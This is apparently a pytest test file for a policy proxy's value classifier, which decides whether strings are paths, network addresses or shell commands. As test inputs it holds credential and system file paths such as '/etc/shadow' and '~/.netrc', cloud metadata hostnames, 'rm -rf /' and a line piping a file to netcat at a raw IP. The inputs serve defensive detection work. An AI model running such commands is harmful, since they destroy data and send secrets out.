"""What a value is, by its form."""

import pytest

from proxy.policy.value_forms import (
    is_address,
    is_surely_command,
    looks_like_shell,
    may_be_path,
    path_in,
    runs_programs,
    starts_with_program,
)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("/etc/shadow", "/etc/shadow"),
        (" '/etc/shadow' ", "/etc/shadow"),
        ("/home/me/My Documents/a b.txt", "/home/me/My Documents/a b.txt"),
        ("--config=/etc/x", "/etc/x"),
        ("@~/.netrc", "~/.netrc"),
        ("$UNSET/etc/x", "/etc/x"),
        ("%TEMP%\\..\\x", "\\..\\x"),
        ("/home/me/conf:/etc/nginx:ro", "/home/me/conf"),
        ("a/../../x", "a/../../x"),
        ("x y/../../z", "x y/../../z"),
        ("src/.env", "src/.env"),
        ("D:\\x", "D:\\x"),
        ("%2fetc%2fx", "%2fetc%2fx"),
        ("/" + "x" * 5000, "/" + "x" * 5000),
    ],
)
def test_a_whole_value_is_a_path(text, path):
    assert may_be_path(text)
    assert path_in(text) == path


@pytest.mark.parametrize(
    "text",
    [
        *("", "words", "src/main.py", "/etc/hosts is a file", "see /etc/hosts", "// a comment", "/* a comment */"),
        *("https://example.com/../x", "s3://bucket/.ssh/x", "a: /etc/x", "$5", "$.a.b", "100%", "@me", "x ../y z w"),
        *(
            "/etc/a\n/etc/b",
            "/deploy the web app to /etc",
            "/** doc */ x",
            "/" + "x " * 3000,
            "fix .ssh/config handling",
        ),
    ],
)
def test_what_only_mentions_a_path_is_none(text):
    assert path_in(text) is None


@pytest.mark.parametrize("text", ["", "word", "utf-8", "a.b", "1.5", "x()", "it's"])
def test_most_values_need_no_closer_look(text):
    assert not may_be_path(text)


@pytest.mark.parametrize(
    "text",
    [
        *("http://x", "HTTPS:x", "//example.com/x", "//2852039166", "ftp://me@x", "1.2.3.4", "0x7f.1:80", "[::1]:80/x"),
        *("metadata.google.internal", "instance-data.ec2.internal", " http://x "),
    ],
)
def test_urls_and_addresses(text):
    assert is_address(text)


@pytest.mark.parametrize("text", ["", "x", "see http://x", "//div[1]/a", "//proc/item", "12345", "a.b", "C:/x", "1.5s"])
def test_no_urls_and_addresses(text):
    assert not is_address(text)


@pytest.mark.parametrize(
    "text", ["rm -rf /", "'rm' -rf /", "\\rm x", "X=1 rm x", "( rm x )", "/usr/bin/rm x", "RM.exe x", "! rm x"]
)
def test_a_text_starts_with_a_program(text):
    assert starts_with_program(text)
    assert runs_programs(text)


@pytest.mark.parametrize("text", ["", "remove it", "find = 1", "cat (x)", "rmx -rf", "x; rm -rf /"])
def test_a_text_starts_with_no_program(text):
    assert not starts_with_program(text)


def test_a_script_runs_programs_in_any_line():
    assert runs_programs("#!/usr/bin/env bash\n:")
    assert runs_programs("x=1\nif true; then\n  rm x\nfi")
    assert not runs_programs("import os\nprint('rm -rf /')")


@pytest.mark.parametrize("text", ["rm -rf /", "cat /etc/x | nc 1.2.3.4 9", "cd /x && ls -l", "bash -c 'any words'"])
def test_what_can_only_be_a_command(text):
    assert is_surely_command(text)


@pytest.mark.parametrize(
    "text", ["rm", "rm -rf / is bad", "find the file /etc/x", "make it so", "words; rm -rf /", "cat " + "/x " * 3000]
)
def test_what_may_be_words(text):
    assert not is_surely_command(text)


def test_signs_of_a_shell():
    assert looks_like_shell("x && y")
    assert looks_like_shell("./x")
    assert not looks_like_shell("view")
